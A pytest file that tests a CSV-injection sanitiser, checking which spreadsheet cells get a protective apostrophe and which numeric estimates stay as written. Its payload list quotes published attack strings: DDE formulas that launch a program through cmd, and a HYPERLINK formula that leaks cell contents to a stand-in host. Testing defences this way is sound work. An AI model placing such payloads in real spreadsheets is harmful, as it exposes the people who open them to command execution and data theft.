"""data/safe.py: which text cells get the apostrophe that keeps a spreadsheet from running them.

The rule (OWASP "CSV Injection"; ASVS 1.2.10): a text cell that begins with ``= + - @``, tab or
CR is prefixed with ``'``. Left alone: text that reads as a number, and a negative estimate with
its interval, ``"-0.66 [-0.97, -0.37]"`` (numbers, ``", "`` and square brackets only), so that
negative and positive estimates of Table 2 read alike. Anything with an operator, a name, a
reference, a quote or a parenthesis keeps its apostrophe.
"""

import shutil
import subprocess

import openpyxl
import pandas as pd
import pytest

from msrelax_stats.data.safe import inert_cell, spreadsheet_safe

# published payloads (OWASP CSV Injection page; defusedcsv's test corpus; HackerOne #72785)
PAYLOADS = [
    "=1+1",
    "-1+1",
    "+1+1",
    "@A3",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1&A2,"Error: please click")',
    "\t=1+1",
    "\r=1+1",
]
# arithmetic a spreadsheet would recompute, and shapes it might read as a reference or error
RECOMPUTED = ["-2+3", "-2-3", "-1 -2", "-2*3", "-2/3", "-2^2", "-5%", "-(1)", "-1:2",
              "-1;2", "-1 2", "-1 (0.5)", "-0.66 [-0.97, -0.37]+1", "-1 [A1]", "-1 [2",
              "-1 [2]]", "- 1", "-1e3x", "-0.66 [-0.97 -0.37]", "-1 [-2, -3] [4]", "-"]  # fmt: skip
# numbers, and estimates with their interval, exactly as the tables print them
INERT = ["-0.5", "-.5", "-1,0", "-1e3", "-0.66 [-0.97, -0.37]", "-12.5 [-20.1, -4.9]",
         "-0.30 [-0.75, 0.16]", "-1, 2", "-1,5 [-2,0, -1,0]"]  # fmt: skip


@pytest.mark.parametrize("cell", PAYLOADS + RECOMPUTED)
def test_formulas_and_arithmetic_get_the_apostrophe(cell):
    assert inert_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", INERT)
def test_numbers_and_estimates_with_intervals_stay_as_they_are(cell):
    assert inert_cell(cell) == cell


def test_positive_and_negative_estimates_read_alike():
    frame = pd.DataFrame({"Change [95 % CI]": ["-0.66 [-0.97, -0.37]", "0.66 [0.37, 0.97]"],
                          "id": ["=1+1", "P1"], "n": [31, 30]})  # fmt: skip
    out = spreadsheet_safe(frame)
    assert out["Change [95 % CI]"].tolist() == ["-0.66 [-0.97, -0.37]", "0.66 [0.37, 0.97]"]
    assert out["id"].tolist() == ["'=1+1", "P1"]
    assert out["n"].tolist() == [31, 30]


def _calc_import(tmp_path, cells):
    """The cells as LibreOffice Calc reads them from a CSV: (value, openpyxl data type)."""
    source = tmp_path / "cells.csv"
    pd.DataFrame({"cell": cells}).to_csv(source, index=False)
    run = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    target = tmp_path / "cells.xlsx"
    if not target.exists():  # LibreOffice without Calc
        pytest.skip(f"LibreOffice Calc cannot open CSV here: {run.stderr.strip()[-200:]}")
    sheet = openpyxl.load_workbook(target).active
    return [(c.value, c.data_type) for (c,) in sheet.iter_rows(min_row=2, max_col=1)]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice absent")
def test_libreoffice_reads_the_unprefixed_estimates_as_text(tmp_path):
    estimates = [c for c in INERT if " " in c]
    read = _calc_import(tmp_path, [*estimates, "=1+1"])
    assert read[:-1] == [(c, "s") for c in estimates]  # text, exactly as written
    assert read[-1][1] == "f"  # the check can see a formula when there is one
